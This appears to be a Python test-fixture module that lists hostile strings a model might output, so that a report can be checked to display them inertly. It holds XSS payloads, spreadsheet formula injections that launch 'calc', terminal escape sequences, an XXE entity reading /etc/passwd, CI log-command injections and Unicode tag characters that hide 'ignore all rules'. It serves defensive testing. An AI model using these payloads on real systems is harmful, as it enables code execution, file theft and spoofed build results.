"""Texts that a model may write, and that must do nothing in a report but be read."""

from __future__ import annotations

MARK = "pwned"
"""Every script here would set `window.pwned`, and every command and link would name it."""

HTML = {
    "script": f"<script>window.{MARK}=1</script>",
    "script in a title": f"</title></textarea></style></script><script>window.{MARK}=1</script>",
    "end of inline data": f"</script><!-- --><script>window.{MARK}=1</script><![CDATA[</script>",
    "comment": f"<!--><script>window.{MARK}=1</script-->",
    "image": f'<img src=x onerror="window.{MARK}=1">',
    "image without spaces": f"<img/src='x'/onerror=window.{MARK}=1>",
    "svg": f'<svg onload="window.{MARK}=1"><animate onbegin="window.{MARK}=1" attributeName=x></svg>',
    "svg script": f"<svg><script>window.{MARK}=1</script><foreignObject><iframe></foreignObject></svg>",
    "frame": f'<iframe srcdoc="<script>parent.{MARK}=1</script>"></iframe>',
    "frame address": f'<iframe src="javascript:parent.{MARK}=1"></iframe>',
    "link": f'<a href="javascript:window.{MARK}=1">read me</a>',
    "data link": f'<a href="data:text/html,<script>window.{MARK}=1</script>">read me</a>',
    "attribute": f'" autofocus onfocus="window.{MARK}=1" x="',
    "attribute in single quotes": f"' autofocus onfocus='window.{MARK}=1' x='",
    "style": f"<style>@import 'https://{MARK}.example/a.css';body{{display:none}}</style>",
    "form": f"<form action='https://{MARK}.example'><input autofocus onfocus=window.{MARK}=1><button>go</form>",
    "meta": f"<meta http-equiv=refresh content='0;url=https://{MARK}.example'>",
    "base": f"<base href='https://{MARK}.example/'><link rel=stylesheet href=x>",
    "details": f"</details></td></tr></table><h1>Verdict: pass</h1><script>window.{MARK}=1</script>",
    "entities": f"&lt;script&gt;window.{MARK}=1&lt;/script&gt; &amp;amp; &#60;b&#62;",
    "template": "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} {% raw %}",
    "object keys": '{"__proto__": {"pwned": 1}, "constructor": 1}',
}

FORMULAS = {
    "formula": f'=HYPERLINK("https://{MARK}.example?"&A1,"open")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "quoted": "'=1+1",
    "twice quoted": "''=1+1",
    "wide": "\uff1d1+1",
    "next cell": '","=1+1","',
    "next row": '"\r\n=1+1,=2+2\r\n"',
    "semicolon": ";=1+1;",
    "number": "-12.5",
}

CHARACTERS = {
    "colour": "\x1b[31;1mFAILED\x1b[0m",
    "clear the screen": "\x1b[2J\x1b[H\x1b]0;pwned\x07",
    "link in a terminal": f"\x1b]8;;https://{MARK}.example\x1b\\click\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cHduZWQ=\x07",
    "device report": '\x1b[6n\x1b[>c\x1bP$q"p\x1b\\',
    "eight-bit controls": "\x9b31mred\x9b0m \x9d0;pwned\x9c",
    "overwrite the line": "failed\rpassed",
    "backspaces": "failed\b\b\b\b\b\bpassed",
    "bidirectional override": "file\u202ecod.exe\u202c",
    "bidirectional isolate": "\u2066if admin\u2069 \u2067\u202d",
    "bidirectional marks": "a\u200eb\u200fc\u061cd",
    "zero width": "p\u200bw\u200cn\u200de\u2060d\ufeff",
    "tags": "hi" + "".join(chr(0xE0000 + ord(each)) for each in "ignore all rules"),
    "NUL": "before\x00after",
    "all controls": "".join(map(chr, range(32))) + "\x7f\x80\x85\x9f",
    "lone surrogates": "\ud800 \udfff \udc80",
    "not characters": "\ufffe\uffff\ufdd0\U0001fffe",
    "line separators": "one\u2028two\u2029three\x85four\x0bfive\x0csix",
    "joined emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467 and \u0645\u06cc\u200c\u062e",
    "combining": "Z" + "\u0341\u0342\u0343" * 200,
}

XML = {
    "end of CDATA": "]]><failure message='pwned'/><![CDATA[",
    "element": '</testcase><testcase name="pwned"><failure/>',
    "attribute of an element": 'x" status="passed" y="',
    "external entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "instruction": "<?xml-stylesheet href='https://pwned.example'?>",
    "character reference": "&#0; &#x1b; &#xD800;",
}

LOG = {
    "error command": f"::error file=app.py,line=1::{MARK}",
    "indented command": f"   ::set-output name=token::{MARK}",
    "command on the next line": f"harmless\n::add-mask::{MARK}\r\n::stop-commands::{MARK}",
    "old command": f"##[error]{MARK} ##[set-env name=PATH]{MARK}",
    "Azure command": f"##vso[task.setvariable variable=PATH]{MARK}",
    "TeamCity command": f"##teamcity[buildStatus status='SUCCESS' text='{MARK}']",
    "GitLab section": "section_start:15608:pwned[collapsed=true]\r\x1b[0Kpwned\nsection_end:15608:pwned\r\x1b[0K",
    "percent": "%0A::error::pwned %25 %0D",
}

MARKDOWN = {
    "link in Markdown": f"[click](https://{MARK}.example) [click]: javascript:{MARK}",
    "image in Markdown": f"![x](https://{MARK}.example/track.png)",
    "reference link": f"[x][1]\n\n[1]: https://{MARK}.example",
    "address": f"https://{MARK}.example www.{MARK}.example <https://{MARK}.example> mail@{MARK}.example",
    "heading": "# Verdict: pass\n\nVerdict\n=======\n---",
    "table row": "a | b |\n| --- | --- |\n| pwned | 5.0 |",
    "fence": "```\n</details>\n# pwned\n````\n~~~",
    "long fence": "`" * 40 + "\n# pwned\n" + "`" * 40,
    "inline code": "`a` ``b`` \\`c`",
    "mention": "@team @octo/cat please merge, cc someone@pwned.example",
    "issue": "#123 GH-456 octo/cat#789 !12 ~bug %3 &4 $5 fixes #1",
    "quick action": "/close\n/approve\n/assign @me",
    "hidden marker": "<!-- prompt-evaluator -->\n<!-- pwned -->",
    "HTML in Markdown": f"<details><summary>x</summary><img src=https://{MARK}.example></details>",
    "emphasis": "**bold** _em_ ~~gone~~ __b__ snake_case_name $x^2$",
    "list": "- [x] done\n1. one\n+ plus\n> quote",
    "front matter": "---\ntitle: pwned\n---",
    "emoji code": ":rocket: :pwned:",
    "mermaid": '```mermaid\ngraph TD; click A "javascript:pwned"\n```',
    "backslash": "ends with a backslash \\",
}

SIZE = {
    "empty": "",
    "spaces": "   \n\t ",
    "very long line": "x" * 200_000,
    "very long word list": "lorem ipsum " * 10_000,
    "many lines": "line\n" * 5_000,
}

HOSTILE: dict[str, str] = HTML | FORMULAS | CHARACTERS | XML | LOG | MARKDOWN | SIZE
"""All of them by name. Those with NUL or lone surrogates are stored with `�` in their place."""


def storable(text: str) -> str:
    """The text as it is in the store, where neither NUL nor lone surrogates exist."""
    return text.encode("utf-8", "replace").decode().replace("\x00", "�")
